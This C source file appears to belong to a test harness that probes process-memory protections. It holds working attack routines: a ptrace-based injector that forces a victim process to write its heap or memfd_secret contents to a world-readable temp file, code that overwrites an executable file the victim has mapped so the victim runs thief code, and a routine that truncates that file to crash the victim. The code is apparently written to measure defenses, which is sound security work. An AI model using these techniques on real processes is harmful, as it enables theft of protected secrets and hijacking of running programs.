/*
 * code.c - the victim itself is made to hand out its secret: what no protection of pages stops.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "arch.h"

enum { PATIENCE = 40, STEP_MS = 50 };

/* One system call by a stopped thread. */
static long make_call(pid_t pid, const struct user_regs_struct *from, long number, const uint64_t args[4])
{
	struct user_regs_struct regs = *from;
	int status;

	arch_call(&regs, number, args);
	if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0L, 0L) < 0)
		return -errno;
	if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status))
		return -ESRCH;
	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
		return -errno;
	return (long)regs.rax;
}

static int poke_text(pid_t pid, unsigned long long at, const char *text)
{
	for (size_t i = 0; i <= strlen(text); i += sizeof(long)) {
		long word = 0;

		memcpy(&word, text + i, strnlen(text + i, sizeof(word)));
		if (ptrace(PTRACE_POKEDATA, pid, (void *)(uintptr_t)(at + i), (void *)word) < 0)
			return -errno;
	}
	return 0;
}

/* open(path), pwrite(it, secret), close(it): as if the victim had wanted to. */
static long make_it_write(const struct attack *a, pid_t pid, const char *path, unsigned long long secret)
{
	struct user_regs_struct regs;
	long fd = poke_text(pid, a->target.scratch, path), written;

	if (fd < 0)
		return fd;
	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
		return -errno;
	fd = make_call(pid, &regs, SYS_openat,
		       (const uint64_t[4]){ (uint64_t)AT_FDCWD, a->target.scratch, O_WRONLY, 0 });
	written = fd;
	if (fd >= 0) {
		written = make_call(pid, &regs, SYS_pwrite64,
				    (const uint64_t[4]){ (uint64_t)fd, secret, a->target.length, 0 });
		(void)make_call(pid, &regs, SYS_close, (const uint64_t[4]){ (uint64_t)fd, 0, 0, 0 });
	}
	(void)ptrace(PTRACE_SETREGS, pid, NULL, &regs);
	return written;
}

static int inject_once(struct attack *a, unsigned long long secret, const char *path, int fd)
{
	pid_t pid = a->target.pid;
	int result = trace(pid, a->row->number);
	long written;

	if (result != 0)
		return result;
	written = make_it_write(a, pid, path, secret);
	untrace(pid);
	return written < 0 ? (int)written : saw_file(a, fd);
}

/* Where the thread is stopped is chance: a call that is about to be made again comes before ours. */
static int inject(struct attack *a)
{
	unsigned long long secret = a->row->text[0] == 's' ? a->target.secretmem : a->target.heap;
	char path[] = "/tmp/attack.XXXXXX";
	int fd, result = -ENODATA;

	if (secret == 0)
		return not_here(a, "no memfd_secret");
	fd = mkstemp(path);
	if (fd < 0 || fchmod(fd, 0666) < 0)
		return not_here(a, "no file");
	for (int i = 0; result == -ENODATA && i < PATIENCE; i++) {
		if (i > 0)
			moment(STEP_MS);
		result = inject_once(a, secret, path, fd);
	}
	(void)unlink(path);
	return result;
}

static int open_code(struct attack *a)
{
	if (a->target.code[0] == '\0')
		return not_here(a, "the victim has no --code");
	a->fd = open_path(a->target.code, O_RDWR);
	return a->fd < 0 ? a->fd : 0;
}

/* Without a tracer: new code into a file that the victim has mapped and runs. */
static int write_code(struct attack *a)
{
	char code[] = ARCH_THIEF "/tmp/attack.XXXXXX";
	char *path = code + sizeof(ARCH_THIEF) - 1;
	int loot = mkstemp(path), result;

	if (loot < 0 || fchmod(loot, 0666) < 0)
		return not_here(a, "no file");
	result = pwrite(a->fd, code, sizeof(code), 0) < 0 ? -errno : -ENODATA;
	for (int i = 0; result == -ENODATA && i < PATIENCE; i++) {
		moment(STEP_MS);
		result = saw_file(a, loot);
	}
	(void)!pwrite(a->fd, ARCH_RETURN, 1, 0);
	(void)unlink(path);
	return result == -ENODATA ? ALLOWED : result;
}

static int overwrite_file(struct attack *a)
{
	int result = open_code(a);

	return result == 0 ? write_code(a) : result;
}

static int cut_file(struct attack *a)
{
	if (a->target.code[0] == '\0')
		return not_here(a, "the victim has no --code");
	return truncate(a->target.code, 0) < 0 ? -errno : ALLOWED;
}

const struct row code_rows[] = {
	{ .name = "inject_heap", .vector = "ptrace_attach", .what = "injected system calls: it writes its secret to a file",
	  .run = inject, .text = "h", .number = BY_ATTACH },
	{ .name = "inject_secretmem", .vector = "ptrace_attach", .what = "the same, from memfd_secret", .run = inject,
	  .text = "s", .number = BY_SEIZE },
	{ .name = "code_file", .vector = "mapped_file", .what = "new code into a mapped file, which the victim then runs",
	  .run = overwrite_file },
	{ .name = "code_earlier", .vector = "mapped_file", .what = "the same, through a descriptor from before protection",
	  .run = write_code, .hold = open_code },
	{ 0 },
};

/* Afterwards the victim has no code to run. */
const struct row cut_rows[] = {
	{ .name = "code_truncate", .vector = "mapped_file", .what = "the mapped file is cut off under the victim",
	  .run = cut_file, .flags = ENDS_VICTIM },
	{ 0 },
};
